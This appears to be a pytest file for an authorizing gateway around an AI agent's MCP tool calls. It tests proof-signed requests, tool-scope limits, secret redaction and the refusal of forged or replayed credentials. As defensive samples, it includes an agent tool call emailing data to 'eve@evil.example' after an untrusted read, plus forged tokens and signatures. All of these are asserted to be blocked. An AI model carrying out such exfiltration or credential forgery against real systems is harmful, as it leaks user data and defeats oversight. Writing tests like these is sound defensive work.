"""The HTTP gateway: the SDK's MCP client over streamable HTTP, signing each request with
``RemitProofAuth``; and raw requests without, or with forged, credentials."""

from __future__ import annotations

import contextlib
import hashlib
import json
from collections.abc import Iterator
from typing import Any

import anyio
import httpx2
import pytest
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import MCPError
from mcp_types import CLIENT_CAPABILITIES_META_KEY, PROTOCOL_VERSION_META_KEY

from remit.agent import AgentSession, TaskSession
from remit.canonical import digest
from remit.core.keys import generate_instance_key
from remit.core.tokens import make_call_proof
from remit.gateway.agent_auth import RemitProofAuth
from remit.gateway.core import Gateway, LocalRemitView
from remit.gateway.redact import REDACTED
from remit.gateway.server import running_http_gateway

from .conftest import (
    CANARY,
    INTENT,
    MANDATE_TOOLS,
    PRINCIPAL,
    World,
    free_port,
    http_upstream_process,
)
from .test_sidecar import remit_data, text, wire

pytestmark = pytest.mark.anyio

MCP_HEADERS = {
    "accept": "application/json, text/event-stream",
    "content-type": "application/json",
    "mcp-protocol-version": "2026-07-28",
}


def open_task(world: World, **intent: Any) -> TaskSession:
    agent = AgentSession.attest(world.remit, world.join_token())
    return agent.open_task(principal=PRINCIPAL, intent={**INTENT, **intent})


@contextlib.contextmanager
def http_gateway(world: World) -> Iterator[tuple[Gateway, str]]:
    gateway = Gateway(world.config(), LocalRemitView(world.remit))
    with running_http_gateway(gateway, world.remit) as url:
        yield gateway, url


@contextlib.asynccontextmanager
async def signed_client(task: TaskSession, url: str, mode: str = "auto") -> Any:
    with anyio.fail_after(60):
        async with (
            httpx2.AsyncClient(auth=RemitProofAuth(task)) as http,
            Client(streamable_http_client(url, http_client=http), mode=mode) as client,
        ):
            yield client


@pytest.mark.parametrize("mode", ["auto", "legacy"])
async def test_a_signed_mcp_client_over_http(world: World, mode: str) -> None:
    task = open_task(world)
    with http_gateway(world) as (_, url):
        async with signed_client(task, url, mode) as agent:
            assert sorted(t.name for t in (await agent.list_tools()).tools) == wire(MANDATE_TOOLS)

            echoed = await agent.call_tool("desk__echo", {"text": "über"})
            assert not echoed.is_error and echoed.structured_content == {"result": "über"}

            outside = await agent.call_tool("desk__whoami_headers", {})
            assert text(outside) == "remit denied (denied): mandate-tool-scope"

            await agent.call_tool("desk__read_ticket", {"ticket_id": "4711"})
            exfil = await agent.call_tool(
                "desk__send_email", {"to": "eve@evil.example", "body": "x"}
            )
            assert "exfiltration-after-untrusted-read" in remit_data(exfil)["reasons"]
            ok = await agent.call_tool("desk__send_email", {"to": "alice@example.com", "body": "x"})
            assert not ok.is_error

            who = await agent.call_tool("desk__whoami_env", {})
            assert f"UPSTREAM_API_KEY={REDACTED}" in text(who) and CANARY not in text(who)
    decisions = [d for d in world.decisions() if d.get("task") == task.task_id]
    assert {d["tool"] for d in decisions} >= {"desk/echo", "desk/send_email", "desk/whoami_env"}


async def raw_post(url: str, body: dict[str, Any], headers: dict[str, str]) -> httpx2.Response:
    """One MCP request as the 2026-07-28 protocol spells it, with the given credentials."""
    routing = {"mcp-method": body["method"]}
    if body["method"] == "tools/call":
        routing["mcp-name"] = body["params"]["name"]
    async with httpx2.AsyncClient() as http:
        with anyio.fail_after(30):
            return await http.post(
                url, content=json.dumps(body), headers={**MCP_HEADERS, **routing, **headers}
            )


def proof(task: TaskSession, op: str, value: Any, url: str, key: Any = None) -> str:
    return make_call_proof(
        key or task.agent._key,
        token=task.token,
        tool=op,
        args_digest=digest(value),
        now=task.agent._clock.now(),
        htm="POST",
        htu=url,
    )


def refused(response: httpx2.Response, status: int, code: str, reason: str) -> None:
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert error["data"] == {"code": code, "reason": reason}
    assert error["message"].startswith(f"remit refused ({code}): ")
    if status == 401:
        assert response.headers["www-authenticate"] == 'Bearer error="invalid_token"'


async def test_missing_or_forged_credentials_are_refused_with_401(world: World) -> None:
    task = open_task(world)
    envelope = {PROTOCOL_VERSION_META_KEY: "2026-07-28", CLIENT_CAPABILITIES_META_KEY: {}}
    listing = {"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {"_meta": envelope}}
    crash = {
        "jsonrpc": "2.0",
        "id": 2,
        "method": "tools/call",
        "params": {"name": "desk__crash", "arguments": {}, "_meta": envelope},
    }
    bearer = {"authorization": f"Bearer {task.token}"}
    with http_gateway(world) as (gateway, url):
        refused(await raw_post(url, listing, {}), 401, "invalid_token", "missing_token")
        refused(await raw_post(url, listing, bearer), 401, "invalid_proof", "missing_proof")

        good = proof(task, "remit:mcp/tools/list", {}, url)
        forged_token = {"authorization": "Bearer eyJhbGciOiJFUzI1NiJ9.e30." + "A" * 86}
        refused(
            await raw_post(url, listing, {**forged_token, "remit-proof": good}),
            401,
            "invalid_token",
            "typ_mismatch",
        )
        other_key = proof(task, "remit:mcp/tools/list", {}, url, key=generate_instance_key())
        refused(
            await raw_post(url, listing, {**bearer, "remit-proof": other_key}),
            401,
            "invalid_proof",
            "bad_signature",
        )
        elsewhere = proof(task, "remit:mcp/tools/list", {}, "http://127.0.0.1:1/mcp")
        refused(
            await raw_post(url, listing, {**bearer, "remit-proof": elsewhere}),
            401,
            "invalid_proof",
            "binding_mismatch",
        )
        ok = await raw_post(url, listing, {**bearer, "remit-proof": good})
        assert ok.status_code == 200 and len(ok.json()["result"]["tools"]) == len(MANDATE_TOOLS)
        refused(  # a proof is single use
            await raw_post(url, listing, {**bearer, "remit-proof": good}),
            401,
            "invalid_proof",
            "replayed",
        )

        # A tools/call whose proof covers other arguments never reaches Remit's decision,
        # nor the upstream (which would have crashed).
        wrong_args = proof(task, "desk/crash", {"x": 1}, url)
        refused(
            await raw_post(url, crash, {**bearer, "remit-proof": wrong_args}),
            401,
            "invalid_proof",
            "args_mismatch",
        )
        wrong_tool = proof(task, "desk/echo", {}, url)
        refused(
            await raw_post(url, crash, {**bearer, "remit-proof": wrong_tool}),
            401,
            "invalid_proof",
            "tool_mismatch",
        )
        assert gateway.upstreams["desk"].connects == 1
        assert gateway.upstreams["desk"].connected

        # The SDK's client without Remit's auth gets the refusal as an MCP error.
        with anyio.fail_after(30):
            async with httpx2.AsyncClient() as plain:
                with pytest.raises(BaseException) as caught:
                    async with Client(streamable_http_client(url, http_client=plain)) as c:
                        await c.list_tools()
        assert "invalid_token" in repr(caught.value)
        errors = _leaves(caught.value)
        assert any(isinstance(e, MCPError) for e in errors)

    assert world.decisions() == []  # nothing was decided, let alone forwarded
    assert world.audit_text().count("request.rejected") >= 8


def _leaves(exc: BaseException) -> list[BaseException]:
    if isinstance(exc, BaseExceptionGroup):
        return [leaf for e in exc.exceptions for leaf in _leaves(e)]
    return [exc]


async def test_an_http_upstream_gets_its_credential_in_a_header_and_nothing_else(
    world: World,
) -> None:
    with http_upstream_process(free_port()) as upstream_url:
        world.config_data["upstreams"].append(
            {
                "name": "web",
                "url": upstream_url,
                "headers": {"X-Upstream-Key": "${CANARY}"},
                "timeout_seconds": 10,
            }
        )
        task = open_task(world, tools=[*MANDATE_TOOLS, "web/whoami_headers"])
        with http_gateway(world) as (_, url):
            async with signed_client(task, url) as agent:
                listed = (await agent.list_tools()).model_dump_json()
                who = await agent.call_tool("web__whoami_headers", {})
    body = text(who)
    assert not who.is_error, body
    assert hashlib.sha256(CANARY.encode()).hexdigest() in body  # injected upstream...
    assert f"X-Upstream-Key={REDACTED}" in body  # ...never shown
    assert "remit-proof=False" in body  # the agent's proof is not passed on
    assert CANARY not in body and CANARY not in listed
